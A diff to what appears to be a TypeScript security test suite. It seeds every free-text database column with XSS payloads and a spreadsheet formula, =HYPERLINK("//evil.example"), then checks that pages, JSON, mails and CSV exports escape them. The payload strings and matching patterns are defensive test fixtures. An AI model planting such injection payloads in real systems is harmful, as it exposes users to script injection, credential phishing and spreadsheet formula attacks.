@@ -7,9 +7,12 @@ import { showEmail } from '../../src/care/contact/channel/email.channel.ts';
 import { writeLeaveToken } from '../../src/care/contact/token.ts';
 import { openSession } from '../../src/care/staff/session.data.ts';
 import { makeApp } from '../../src/entry/app.ts';
+import { doors } from '../../src/entry/doors.ts';
 import { type Listener, listen } from '../../src/entry/listen.ts';
 import { newId } from '../../src/kernel/id.ts';
 import { mailSettingShape } from '../../src/platform/mail/sender.ts';
+import { examples } from './examples.ts';
+import { knock } from './knock.ts';
 import { type Planted, plant } from './plant.ts';
 import { openTown, someoneWithPassword, type Town } from './town.ts';
 
@@ -39,8 +42,18 @@ const payloads = [
   '<form action=https://evil.example><input name=password autofocus onfocus=alert(1)>',
   "-->']]><script>alert(1)</script>",
 ];
-/** All of them in one text, as far as the column takes it. */
-const all = payloads.join(' ');
+/** All of them in one text that begins as a formula. */
+const all = ['=HYPERLINK("//evil.example")', ...payloads].join(' ');
+
+/** Columns that only ever hold codes, keys and hashes of our own, or what a door lets in by its kind alone; every other column of text is poisoned. */
+const ours = new Set(
+  `act arm birthday channel class code_hash country currency decision direction doubtful duty ended_because entry_key family field file_path
+  import_error.code key kind language line mailbox message_id moment normal occasion opened_by outcome password_hash principal purpose queue
+  reachability request_id result scopes screen sort_name source state step subject_id subject_kind template_key tier totp_secret trait
+  waits_for word zone`.split(/\s+/),
+);
+
+const markup = /<script>alert|<img src=x|<svg\/onload|<b id=hostile|<iframe srcdoc/;
 
 let town: Town;
 let planted: Planted;
@@ -48,18 +61,17 @@ let listener: Listener | undefined;
 let browser: Browser | undefined;
 let cookie: string;
 
-/** Puts the payloads into every column that holds words, of every table a page may read. */
+/** Puts the payloads into every column that may hold words of anybody's, of every table there is. */
 const poison = async (): Promise<number> => {
   const { pool } = town.house.database;
   const { rows } = await pool.query<{ table: string; column: string }>(`
     SELECT c.table_name AS table, c.column_name AS column FROM information_schema.columns c
     JOIN information_schema.tables t USING (table_schema, table_name)
     WHERE c.table_schema = 'public' AND t.table_type = 'BASE TABLE' AND c.data_type = 'text'
-      AND c.column_name IN ('name', 'given_name', 'family_name', 'title', 'city', 'region', 'subject', 'words', 'answer', 'description', 'file_name',
-        'user_agent', 'recipient_name', 'because', 'note', 'wording', 'reason', 'number', 'value')
-      AND c.table_name NOT IN ('identity', 'field_source')`);
-  for (const { table, column } of rows) {
-    const own = column === 'number' || table === 'product' ? ` || ' ' || gen_random_uuid()` : '';
+      AND c.table_name NOT IN ('identity', 'field_source', 'migration', 'setting', 'suppression')`);
+  const open = rows.filter(({ table, column }) => !ours.has(column) && !ours.has(`${table}.${column}`));
+  for (const { table, column } of open) {
+    const own = column === 'number' || column === 'email' || table === 'product' ? ` || ' ' || gen_random_uuid()` : '';
     // columns that only take words of ours refuse, and that is as good
     await pool.query(`UPDATE "${table}" SET "${column}" = $1${own} WHERE "${column}" IS NOT NULL`, [all]).catch(() => undefined);
   }
@@ -69,7 +81,7 @@ const poison = async (): Promise<number> => {
   ]);
   await pool.query(`UPDATE event SET data = data || jsonb_build_object('words', $1::text, 'subject', $1::text, 'number', $1::text)`, [all]);
   await pool.query('UPDATE import_error SET cells = $1', [JSON.stringify([all])]);
-  return rows.length;
+  return open.length;
 };
 
 beforeAll(async () => {
@@ -82,7 +94,7 @@ beforeAll(async () => {
       .execute((tx) => openSession(tx, { staffId: owner.staffId, openedBy: 'password', userAgent, address: '' }, town.house.clock.now()));
   const views = payloads.slice(0, 3).map((query) => ({ screen: 'customers', name: query.slice(0, 60), query: `q=${query}`, shared: true }));
   for (const body of views) await owner.ask('post', '/api/v1/views', { body });
-  expect(await poison()).toBeGreaterThan(15);
+  expect(await poison()).toBeGreaterThan(40);
   const { word } = await town.house.db
     .transaction()
     .execute((tx) =>
@@ -188,8 +200,55 @@ test('the pages of the server and the mails escape every word by themselves, bef
   for (const path of ['/', '/?lang=zh', leave(), `${leave()}?lang=zh`, '/api']) {
     const answer = await app.request(`${town.house.baseUrl}${path}`);
     const text = await answer.text();
-    expect(text, path).not.toMatch(/<script>alert|<img src=x|<svg\/onload|<b id=hostile|<iframe srcdoc/);
+    expect(text, path).not.toMatch(markup);
     expect(answer.headers.get('content-security-policy'), path).toBeTruthy();
   }
   expect(mailOf()).not.toMatch(/<script|<img|<svg|<iframe|<b id=hostile|href="javascript/);
+});
+
+/** Cells of a CSV, as a spreadsheet cuts it. */
+const cellsOf = (csv: string): string[] =>
+  [...csv.matchAll(/(?:^|[,\n])(?:"((?:[^"]|"")*)"|([^,\n"]*))/g)].map((match) => (match[1] ?? match[2] ?? '').replaceAll('""', '"'));
+
+const htmlIn = (value: unknown): string[] =>
+  typeof value === 'object' && value !== null
+    ? Object.entries(value).flatMap(([key, inner]) => (key === 'html' && typeof inner === 'string' ? [inner] : htmlIn(inner)))
+    : [];
+
+test('no list, page or file a program or a spreadsheet is given breaks over it, or passes it on as anything but text', async () => {
+  const owner = await someoneWithPassword(town, 'owner', null);
+  const at = { ...planted, programmeId: town.a.programmeId };
+  const idOf = (path: string): string | undefined =>
+    Object.entries({
+      customers: at.customerId,
+      outbox: at.deliveryId,
+      'contact-requests': at.requestId,
+      imports: at.importId,
+      today: at.itemId,
+      staff: at.staffId,
+    }).find(([name]) => path.startsWith(`/api/v1/${name}/{id}`))?.[1];
+  const wrong: string[] = [];
+  let held = 0;
+  for (const one of doors.filter((each) => each.method === 'get' || ['export-customers', 'contact.template.preview'].includes(each.id))) {
+    const good = (await examples[one.id]?.good(town.a, owner, town)) ?? {};
+    const id = idOf(one.path);
+    const calls = id ? [good, { ...good, params: { ...good.params, id } }] : [good];
+    for (const call of one.id === 'list-import-errors'
+      ? [...calls, ...calls.map((each) => ({ ...each, query: { format: 'csv' } }))]
+      : calls) {
+      const answer = await knock(owner.ask, one, call);
+      const text = await answer.text();
+      const kind = answer.headers.get('content-type') ?? '';
+      if (answer.status >= 500) wrong.push(`${one.id}: ${answer.status}`);
+      if (text.includes('alert(1)')) held += 1;
+      if (kind.includes('json'))
+        for (const html of htmlIn(JSON.parse(text))) if (markup.test(html)) wrong.push(`${one.id}: markup in its html`);
+      if (kind.includes('csv'))
+        for (const cell of cellsOf(text)) if (/^[=+@\t\r-]/.test(cell)) wrong.push(`${one.id}: a formula, ${cell.slice(0, 20)}`);
+      if (kind.includes('html') && markup.test(text)) wrong.push(`${one.id}: markup`);
+    }
+  }
+  expect(wrong).toEqual([]);
+  // the words were really there
+  expect(held).toBeGreaterThan(20);
 });
